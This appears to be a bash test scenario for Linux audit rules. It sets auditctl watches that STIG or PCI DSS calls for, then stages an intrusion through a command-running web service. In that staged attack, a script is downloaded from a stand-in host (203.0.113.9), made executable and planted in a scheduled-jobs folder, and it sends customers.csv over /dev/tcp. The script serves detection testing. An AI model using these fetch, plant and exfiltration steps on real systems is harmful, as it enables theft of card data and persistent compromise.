# shellcheck shell=bash disable=SC2034
HOST=pci01
FORMAT=ENRICHED

# What shops have that follow STIG or PCI DSS: programs, connections, changes of names and rights, and watches; no fork, no close,
# no read of a file, no exit.
own_rules() {
    mkdir -p /srv/shop/jobs
    echo "name,card" >/srv/shop/customers.csv
    local of=(-F "auid>=4001" -F "auid<=4199")
    auditctl -a always,exit -F arch=b64 -S execve -S execveat "${of[@]}" -k exec
    auditctl -a always,exit -F arch=b64 -S connect -S accept -S accept4 "${of[@]}" -k net
    auditctl -a always,exit -F arch=b64 -S chmod -S fchmod -S fchmodat -S chown -S fchown -S fchownat "${of[@]}" -k perm
    auditctl -a always,exit -F arch=b64 -S unlink -S unlinkat -S rename -S renameat -S renameat2 "${of[@]}" -k delete
    auditctl -a always,exit -F arch=b64 -F dir=/srv/shop/jobs -F perm=wa "${of[@]}" -k jobs
    auditctl -a always,exit -F arch=b64 -F path=/srv/shop/customers.csv -F perm=r "${of[@]}" -k cards
}

# ask ADDRESS COMMAND: the client with this address has the web service run it.
ask() {
    outside curl -s --interface "$1" "http://10.88.0.10:8080/run/$(/usr/bin/python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$2")"
}

scenario() {
    local python=(/usr/bin/python3 -S -B)
    mkdir -p /srv/theirs
    cp "$folder/service.py" "$folder/timer.py" /srv/shop
    echo "item,price" >/srv/shop/prices.csv
    printf '%s\n' '#!/bin/sh' 'grep -c item /srv/shop/prices.csv > /srv/shop/report.txt' >/srv/shop/jobs/report
    chmod 755 /srv/shop/jobs/report
    printf '%s\n' '#!/bin/bash' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/shop/customers.csv >&3' >/srv/theirs/refresh
    outside "${python[@]}" -m http.server --bind 203.0.113.9 443 --directory /srv/theirs >/dev/null 2>&1 &
    outside "${python[@]}" -m http.server --bind 203.0.113.9 8443 --directory /srv/theirs >/dev/null 2>&1 &
    inside "${python[@]}" /srv/shop/service.py >/dev/null 2>&1 &
    inside "${python[@]}" /srv/shop/timer.py >/dev/null 2>&1 &
    sleep 2
    ask 192.0.2.7 "date"
    sleep 1
    ask 198.51.100.23 "curl -s -o /srv/shop/.r http://203.0.113.9:443/refresh"
    sleep 1
    ask 198.51.100.23 "chmod 755 /srv/shop/.r; mv /srv/shop/.r /srv/shop/jobs/refresh"
    sleep 3
    ask 192.0.2.7 "date"
    sleep 1
}
